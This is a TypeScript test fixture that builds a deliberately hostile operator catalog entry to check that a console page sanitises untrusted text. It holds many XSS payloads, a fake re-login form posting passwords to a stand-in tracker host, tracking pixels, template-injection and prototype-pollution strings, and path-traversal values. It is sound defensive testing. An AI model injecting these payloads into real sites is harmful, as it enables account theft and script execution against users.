/** Hostile content in every place where a catalog may carry text: nothing of it may run or break a page. */
import { anApi } from '../../build/api';
import { text } from '../../build/fields';
import { anOperator } from '../../build/operator';
import { aChannel, aPackage } from '../../build/package';

const WIDE_TABLE = [
  `| ${Array.from({ length: 40 }, (_, column) => `Column ${column + 1}`).join(' | ')} |`,
  `|${' --- |'.repeat(40)}`,
  ...Array.from(
    { length: 60 },
    (_, row) => `|${` cell-${row}-without-any-place-to-break |`.repeat(40)}`,
  ),
].join('\n');

const DESCRIPTION = `# <script>alert('heading')</script>Trickster

<script>window.tricked = 'script'</script>
<img src="x" onerror="window.tricked = 'onerror'">
<svg onload="window.tricked = 'svg'"><circle r="9"/></svg>
<iframe src="https://tracker.example.com/frame"></iframe>
<style>body { display: none }</style>
<form action="https://tracker.example.com/steal"><input name="password"><button>Log in again</button></form>
<a href="javascript:window.tricked='html'">Documentation</a>
<base href="https://tracker.example.com/">

[Release notes](javascript:window.tricked='markdown')
[Download](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[Spaces](java
script:alert(1))
![Logo](http://tracker.example.com/pixel.png "http image")
![Logo](x" onerror="window.tricked='image')

{{constructor.constructor('window.tricked=1')()}} \${7*7} %s %d <%= 7*7 %>

${'> '.repeat(60)}nested

${'*'.repeat(5000)}

${WIDE_TABLE}

\`\`\`html
</code></pre><script>window.tricked = 'fence'</script>
\`\`\`
`;

const ICON = [
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 64 64" onload="alert(1)">',
  "<script>window.tricked = 'icon'</script>",
  '<image href="http://tracker.example.com/pixel.png" width="1" height="1"/>',
  '<rect width="64" height="64" rx="14" fill="#e03131"/>',
  '</svg>',
].join('');

const operator = anOperator({
  packageName: 'trickster',
  displayName: `<img src=x onerror="window.tricked='name'">Trickster "quoted" & \u202Ereversed\u202C\u0000`,
  provider: { name: '"><script>window.tricked="provider"</script>', url: 'javascript:alert(1)' },
  summary: '<b>Bold</b> claims, {{mustaches}} and ${dollars}; a summary that tries to be code.',
  description: DESCRIPTION,
  categories: ['<i>Category</i>', 'constructor', '__proto__'],
  keywords: ['<script>', 'toString', ''],
  icon: ICON,
  apis: [
    anApi({
      group: 'trickster.example.com',
      kind: 'Trick',
      displayName: '<script>window.tricked="api"</script>',
      description: '[click](javascript:alert(1))',
      spec: { toString: text('<b>Title</b>', '<img src=x onerror=alert(1)>') },
      examples: { example: { toString: '<script>alert(1)</script>' } },
    }),
  ],
  annotations: {
    repository: 'javascript:alert(document.domain)',
    'marketplace.openshift.io/support-workflow': 'javascript:alert(1)',
    'operator.openshift.io/uninstall-message': '<img src=x onerror="window.tricked=1">',
    'operatorframework.io/suggested-namespace': '../../etc',
    'operatorframework.io/suggested-namespace-template': '{"metadata": "no object"}',
    'operatorframework.io/initialization-resource': '[1, 2',
    'operators.operatorframework.io/internal-objects': '{"not": "a list"}',
    'console.openshift.io/plugins': '"../../evil"',
    'alm-examples': '{"not": "a list"}',
  },
  links: [
    { name: 'Documentation', url: 'javascript:alert(1)' },
    { name: '<b>Data</b>', url: 'data:text/html,<script>alert(1)</script>' },
    { name: 'Relative', url: '//tracker.example.com' },
  ],
});

export const trickster = aPackage(operator, {
  channels: [aChannel('stable', '6.6.6')],
  releases: [{ version: '6.6.6', createdAt: '2026-04-01' }],
});
